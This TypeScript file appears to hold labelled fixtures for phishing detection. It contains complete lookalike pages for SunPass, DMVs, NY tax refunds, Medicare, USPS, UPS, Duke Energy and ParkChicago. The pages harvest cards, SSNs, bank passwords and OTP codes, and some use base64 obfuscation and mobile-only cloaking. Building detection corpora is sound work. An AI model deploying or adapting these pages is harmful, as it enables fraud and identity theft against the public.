import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, cardFields, cardFormatJs, codes, doc, formCss, hexLit, luhnJs, mark, seal, tgRelay, usBanner, usBannerCss } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-sunpass-mobile-cloak-encoded',
  label: 'phishing',
  kind: 'toll-smishing-card',
  url: 'https://sunpass.com-tollmx.icu/pay',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title></title></head><body>
<script>
var _0x3a=[${codes('SunPass - Pay Your Toll Invoice')}];
var u=navigator.userAgent||'';
if(/Android|iPhone|iPad|iPod|Mobile/i.test(u)||location.hash=='#m'){
 document.title=String.fromCharCode.apply(null,_0x3a);
 document.write(decodeURIComponent(escape(atob('${b64(`<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#eef3f7}.top{background:#00843d;color:#fff;padding:12px 16px;font-weight:700;font-size:18px}.card{background:#fff;margin:14px;border-radius:8px;padding:16px}h2{font-size:17px;margin:0 0 8px}.due{color:#d0021b;font-size:26px;font-weight:700}label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb;border-radius:4px;font-size:16px}button{margin-top:16px;width:100%;padding:12px;background:#00843d;color:#fff;border:0;border-radius:4px;font-size:16px}</style>
<div class="top">SunPass&reg; &nbsp;|&nbsp; Florida's Turnpike</div>
<div class="card"><h2>Toll Invoice #FL-2291847</h2><p>You have an outstanding toll of <span class="due">$4.35</span>. Pay today to avoid a $25 late penalty and a hold on your vehicle registration renewal.</p></div>
<div class="card"><form id="sp" method="post" action="/api/pay.php">
<label>Cardholder name</label><input name="n" required>
<label>Card number</label><input name="c" inputmode="numeric" maxlength="19" required>
<label>Expiry (MM/YY)</label><input name="e" maxlength="5" required>
<label>CVV</label><input name="v" inputmode="numeric" maxlength="4" required>
<label>ZIP</label><input name="z" maxlength="5" required>
<button type="submit">Pay $4.35</button></form></div>`)}'))));
}else{
 document.write('<h1>404 Not Found</h1><hr><center>nginx</center>');
}
</script></body></html>`,
},

{
  id: 'ye-ca-dmv-license-suspension-fee',
  label: 'phishing',
  kind: 'dmv-smishing-card',
  url: 'https://dmv.ca.gov-rnw.xin/pay/index.html',
  body: doc({
    title: 'California DMV - Final Notice',
    head: `<meta name="robots" content="noindex,nofollow">`,
    css: `${usBannerCss}body{margin:0;font-family:Arial,Helvetica,sans-serif;color:#1b1b1b}.hdr{background:#005b9a;color:#fff;padding:14px 20px;display:flex;gap:12px;align-items:center}.hdr h1{font-size:20px;margin:0}.wrap{max-width:640px;margin:20px auto;padding:0 16px}.alert{border:2px solid #b50909;padding:14px;background:#fff5f5}.alert h2{color:#b50909;margin:0 0 6px;font-size:18px}dl{display:grid;grid-template-columns:180px 1fr;gap:6px 10px;font-size:15px}dt{font-weight:700}button{background:#005b9a;color:#fff;border:0;padding:12px 26px;font-size:16px;border-radius:3px}${formCss}`,
    body: `${usBanner()}
<div class="hdr">${seal('CA', '#005b9a', 44)}<h1>California Department of Motor Vehicles</h1></div>
<div class="wrap">
<div class="alert"><h2>FINAL NOTICE: Enforcement Penalties Begin May 2</h2>
<p>Our records indicate you have an outstanding traffic ticket. Per California Vehicle Code §40509, if payment is not received by May 1, 2025 we will: report the violation to the DMV record system, suspend your vehicle registration (effective May 2), suspend driving privileges for 30 days, and transfer to toll-booth collection with a 35% service fee.</p></div>
<dl><dt>Violation</dt><dd>Red light camera &mdash; CVC 21453(a)</dd><dt>Case number</dt><dd>CA-28410-27KL</dd><dt>Fine</dt><dd><b>$6.99</b></dd></dl>
<h3>Pay online</h3>
<form id="dmvpay">
<div class="fld"><label>Driver license number</label><input name="dl" required></div>
<div class="fld"><label>Full legal name</label><input name="name" required></div>
<div class="fld"><label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY" required></div>
${cardFields({ name: false })}
<button type="submit">Pay $6.99</button>
</form>
<p style="font-size:12px;color:#555;margin-top:24px">Copyright &copy; 2025 State of California</p>
</div>
<script>${cardFormatJs}
document.getElementById('dmvpay').addEventListener('submit',function(e){e.preventDefault();var b=new URLSearchParams(new FormData(this));b.append('ua',navigator.userAgent);
fetch('/api/submit.php',{method:'POST',body:b}).then(function(r){return r.json()}).then(function(j){location.href=j.next||'/pay/otp.html';}).catch(function(){location.href='/pay/otp.html';});});</script>`,
  }),
  routes: {
    'dmv.ca.gov-rnw.xin/api/submit.php': jsonRoute({ ok: 1, next: '/pay/otp.html' }),
  },
},

{
  id: 'ye-fl-hsmv-multa-es',
  label: 'phishing',
  kind: 'dmv-smishing-card',
  url: 'https://flhsmv-gov.multas-pago.top/es/aviso',
  body: doc({
    lang: 'es',
    title: 'FLHSMV - Aviso de Infracción de Tránsito',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f2f2f2}.t{background:#0b3d91;color:#fff;padding:16px}.t small{display:block;opacity:.8}.c{background:#fff;max-width:520px;margin:16px auto;padding:18px;border-radius:4px}h2{color:#0b3d91;font-size:18px}.r{color:#c00;font-weight:700}button{background:#0b3d91;color:#fff;width:100%;padding:12px;border:0;font-size:16px}${formCss}`,
    body: `<div class="t"><b>Florida Highway Safety and Motor Vehicles</b><small>Departamento de Seguridad en Carreteras y Vehículos Motorizados</small></div>
<div class="c"><h2>Aviso de infracción pendiente</h2>
<p>Estimado conductor: su vehículo registró una infracción de peaje/tránsito sin pagar. Si no se paga antes del <span class="r">24 de abril de 2025</span>, su licencia de conducir será suspendida y se agregará una multa de $75.</p>
<p>Monto a pagar: <span class="r">$5.49</span></p>
<form id="mf" method="post" action="https://flhsmv-gov.multas-pago.top/es/procesar.php">
<div class="fld"><label>Nombre completo</label><input name="nombre" required></div>
<div class="fld"><label>Número de teléfono</label><input name="telefono" required></div>
${cardFields({ labels: { name: 'Nombre en la tarjeta', number: 'Número de tarjeta', exp: 'Vencimiento (MM/AA)', cvv: 'CVV', zip: 'Código postal' } })}
<button type="submit">Pagar ahora</button></form>
<p style="font-size:12px;color:#777">&copy; 2025 Estado de Florida. Todos los derechos reservados.</p></div>
<script>${cardFormatJs}</script>`,
  }),
},

{
  id: 'ye-ny-inflation-refund-bank-login',
  label: 'phishing',
  kind: 'state-tax-refund-kit',
  url: 'https://tax-ny-gov.inflation-refund-status.com/status',
  body: doc({
    title: 'NYS Inflation Refund Check Status | Department of Taxation and Finance',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f7f7f7}.nys{background:#154973;color:#fff;padding:10px 20px;font-size:13px}.nys b{font-size:22px;letter-spacing:2px;margin-right:10px}.hd{background:#fff;border-bottom:3px solid #f7a800;padding:14px 20px;font-size:20px;color:#154973}.c{max-width:620px;margin:24px auto;background:#fff;padding:22px;border:1px solid #ddd}.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:14px 0}.banks label{border:1px solid #ccc;padding:10px;text-align:center;border-radius:4px;cursor:pointer;font-size:14px}button{background:#154973;color:#fff;border:0;padding:11px 24px}${formCss}`,
    body: `<div class="nys"><b>NY</b>New York State</div>
<div class="hd">Department of Taxation and Finance &mdash; Inflation Refund Checks</div>
<div class="c">
<p>The Inflation Refund Check program will send about 8.2 million New Yorkers a one-time payment of up to <b>$400</b>. Your refund could not be mailed because of an address mismatch. Choose direct deposit to receive it within 48 hours.</p>
<form id="nyr" method="post" action="/status/deposit.php">
<div class="fld"><label>Social Security number or ITIN</label><input name="ssn" required></div>
<div class="fld"><label>Select your bank</label></div>
<div class="banks">
<label><input type="radio" name="bank" value="chase" required> Chase</label>
<label><input type="radio" name="bank" value="citi"> Citibank</label>
<label><input type="radio" name="bank" value="bofa"> Bank of America</label>
<label><input type="radio" name="bank" value="td"> TD Bank</label>
<label><input type="radio" name="bank" value="mt"> M&amp;T Bank</label>
<label><input type="radio" name="bank" value="other"> Other</label></div>
<div class="fld"><label>Online banking user ID</label><input name="uid" required></div>
<div class="fld"><label>Online banking password</label><input name="upw" type="password" required></div>
<button type="submit">Continue</button>
</form>
<p style="font-size:12px;color:#666">Authorized by Part A of Chapter 56 of the Laws of 2025.</p></div>`,
  }),
},

{
  id: 'ye-medicare-plastic-card-renewal',
  label: 'phishing',
  kind: 'medicare-lure-kit',
  url: 'https://medicare-card-renewal.org/apply/',
  body: doc({
    title: 'Medicare.gov | Order a Replacement Medicare Card',
    css: `${usBannerCss}body{margin:0;font-family:Open Sans,Arial,sans-serif;color:#212121}.m{display:flex;align-items:center;gap:10px;padding:14px 24px;border-bottom:1px solid #ddd}.m b{color:#0071bc;font-size:24px}.hero{background:#046b99;color:#fff;padding:28px 24px}.hero h1{margin:0;font-size:26px}.c{max-width:640px;margin:24px auto;padding:0 20px}.pill{display:inline-block;background:#e1f3f8;color:#046b99;padding:4px 10px;border-radius:12px;font-size:13px}button{background:#0071bc;color:#fff;border:0;padding:12px 28px;font-size:16px;border-radius:4px}${formCss}`,
    body: `${usBanner()}
<div class="m"><b>Medicare</b><span>.gov</span></div>
<div class="hero"><h1>Get your new Medicare card</h1><p>New plastic cards with chip protection are being issued to all beneficiaries in 2025. Your paper card will no longer be accepted by providers after June 30.</p></div>
<div class="c">
<span class="pill">Takes about 3 minutes</span>
<form method="post" action="/apply/process.php" id="mc">
<div class="fld"><label>Medicare Number (MBI) from your current card</label><input name="mbi" placeholder="1EG4-TE5-MK73" required></div>
<div class="fld"><label>Social Security Number</label><input name="ssn" required></div>
<div class="row2"><div class="fld"><label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY" required></div><div class="fld"><label>Phone</label><input name="phone"></div></div>
<div class="fld"><label>Mailing address</label><input name="address" required></div>
<h3>Shipping and activation fee: $4.95</h3>
<p style="font-size:14px">A one-time fee covers secure postage. This amount is reimbursed on your next Social Security payment.</p>
${cardFields()}
<button type="submit">Order my card</button>
</form></div>
<script>${cardFormatJs}</script>`,
  }),
},

{
  id: 'ye-usps-redelivery-fee-docwrite',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://usps.com-redelivery.parcel-trk.top/us/track?id=US9514901185421',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>USPS.com&reg; - USPS Tracking&reg; Results</title></head><body>
<script>var _$=['${b64(`<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;color:#333}.nav{background:#333366;padding:12px 18px;color:#fff;font-weight:700;font-size:20px}.nav i{color:#e71921;font-style:normal}.wrap{max-width:560px;margin:0 auto;padding:18px}.st{border:1px solid #ddd;padding:14px;margin:14px 0}.st b{color:#e71921}.prog{height:8px;background:#ddd;border-radius:4px}.prog div{width:70%;height:8px;background:#333366;border-radius:4px}label{display:block;font-size:14px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;font-size:15px}.btn{background:#333366;color:#fff;border:0;padding:12px;width:100%;margin-top:14px;font-size:16px}</style>
<div class="nav">USPS<i>.</i>COM</div>
<div class="wrap"><h2>USPS Tracking&reg;</h2><p>Tracking Number: <strong>US9514901185421</strong></p>
<div class="prog"><div></div></div>
<div class="st"><b>Delivery attempt failed</b><br>The package arrived at the warehouse but could not be delivered due to incomplete address information. Please update your address within 12 hours or the package will be returned to sender.</div>
<p>A redelivery fee of <b>$0.30</b> applies.</p>
<form id="up" method="post" action="/us/pay.php"><label>Full name</label><input name="name" required><label>Address</label><input name="address" required><label>City / State / ZIP</label><input name="csz" required><label>Phone</label><input name="phone" required><label>Card number</label><input name="card" required><label>Expiration date</label><input name="exp" placeholder="MM/YY" required><label>CVV</label><input name="cvv" required><button class="btn">Pay $0.30 and reschedule</button></form>
<p style="font-size:12px;color:#777">Copyright &copy; 2025 USPS. All Rights Reserved.</p></div>`)}'];
document.write(decodeURIComponent(escape(window['at'+'ob'](_$[0]))));</script>
</body></html>`,
},

{
  id: 'ye-ups-customs-duty-3ds-step',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://ups-customs.delivery-hold.info/duty/1Z8V09W20397181152',
  body: doc({
    title: 'UPS: Pay Duties and Taxes',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#fff}.h{background:#351c15;color:#ffb500;padding:14px 22px;font-weight:700;font-size:20px}.c{max-width:540px;margin:24px auto;padding:0 18px}table{width:100%;border-collapse:collapse}td{border-bottom:1px solid #eee;padding:8px 0}button{background:#ffc400;border:0;border-radius:20px;padding:12px 30px;font-weight:700;font-size:16px}${formCss}`,
    body: `<div class="h">UPS</div>
<div class="c"><h1 style="font-size:22px">Payment Required for Delivery</h1>
<table><tr><td>Tracking Number</td><td>1Z8V09W20397181152</td></tr><tr><td>Status</td><td>Held &mdash; Import duties unpaid</td></tr><tr><td>Duties and taxes</td><td>$1.99</td></tr></table>
<form id="u1" action="/duty/secure.php" method="post">${cardFields()}<button type="submit">Pay and Release</button></form></div>
<div id="acs" style="display:none;position:fixed;inset:0;background:rgba(0,0,0,.5)"><div style="background:#fff;width:360px;margin:80px auto;padding:20px;border-radius:6px;text-align:center"><img src="/img/vbv.png" width="120" alt="Verified"><p>Enter the code we sent to your mobile phone to authorize this purchase of $1.99 at UPS*DUTIES.</p><input id="otp" maxlength="8" style="font-size:20px;width:160px;text-align:center"><br><br><button onclick="go()">Submit</button></div></div>
<script>${cardFormatJs}
var f=document.getElementById('u1');f.onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/duty/c.php',new FormData(f));document.getElementById('acs').style.display='block';};
function go(){var d=new FormData(f);d.append('otp',document.getElementById('otp').value);navigator.sendBeacon('/duty/c.php',d);location.href='https://www.ups.com/track';}
</script>`,
  }),
  routes: { 'ups-customs.delivery-hold.info/img/vbv.png': pngRoute(26, 31, 113) },
},

{
  id: 'ye-duke-energy-disconnect-card',
  label: 'phishing',
  kind: 'utility-shutoff-kit',
  url: 'https://duke-energy.billpay-center.net/disconnect-notice',
  body: doc({
    title: 'Duke Energy | Disconnection Notice',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f5f5f5;color:#222}.h{background:#fff;border-bottom:4px solid #00789e;padding:14px 22px}.red{background:#c8102e;color:#fff;padding:12px 22px;font-weight:700}.c{max-width:600px;margin:22px auto;background:#fff;padding:22px;border-radius:4px}button{background:#00789e;color:#fff;border:0;padding:12px 26px;font-size:16px}${formCss}`,
    body: `<div class="h">${mark('Duke Energy', '#00789e', 'D')}</div>
<div class="red">Service scheduled for disconnection today between 2:00 PM and 4:00 PM</div>
<div class="c"><p>Account ending <b>&bull;&bull;&bull;&bull;4417</b> is past due. Our technician has been dispatched. To stop disconnection and avoid a $185 reconnection fee, pay the past-due balance now.</p>
<p style="font-size:24px">Past due: <b>$312.48</b></p>
<form id="de" method="post" action="/disconnect-notice/pay.php">
<div class="fld"><label>Service address</label><input name="svc" required></div>
<div class="fld"><label>Phone number</label><input name="tel" required></div>
${cardFields()}
<button>Pay now and cancel disconnection</button></form>
<p style="font-size:13px;color:#555">Questions? Call our disconnection desk: 1-888-219-4470</p></div>
<script>${cardFormatJs}</script>`,
  }),
},

{
  id: 'ye-chicago-parking-qr-meter',
  label: 'phishing',
  kind: 'parking-qr-kit',
  url: 'https://parkchicago-pay.com/zone/4412',
  body: doc({
    title: 'ParkChicago - Pay for Parking',
    css: `body{margin:0;font-family:-apple-system,Segoe UI,Arial,sans-serif;background:#fff}.h{background:#41b6e6;color:#fff;padding:16px;font-size:20px;font-weight:700}.c{padding:16px;max-width:440px;margin:auto}.z{font-size:13px;color:#555}.opt{display:flex;gap:8px;flex-wrap:wrap}.opt label{flex:1 0 40%;border:1px solid #41b6e6;border-radius:6px;padding:10px;text-align:center}button{width:100%;background:#e4002b;color:#fff;border:0;padding:14px;font-size:17px;border-radius:6px;margin-top:14px}${formCss}`,
    body: `<div class="h">ParkChicago&reg;</div>
<div class="c"><p class="z">Zone 4412 &middot; N Clark St (1400-1500 block) &middot; $4.75/hr</p>
<form id="pk" method="post" action="/zone/checkout.php">
<div class="fld"><label>License plate</label><input name="plate" required style="text-transform:uppercase"></div>
<div class="fld"><label>Duration</label></div>
<div class="opt"><label><input type="radio" name="dur" value="30" required> 30 min</label><label><input type="radio" name="dur" value="60"> 1 hr</label><label><input type="radio" name="dur" value="120"> 2 hr</label><label><input type="radio" name="dur" value="180"> 3 hr</label></div><br>
${cardFields()}
<button>Start parking session</button></form>
<p class="z">Scan-to-pay powered by city parking partners. Receipts are emailed on request.</p></div>
<script>${cardFormatJs}</script>`,
  }),
},
];
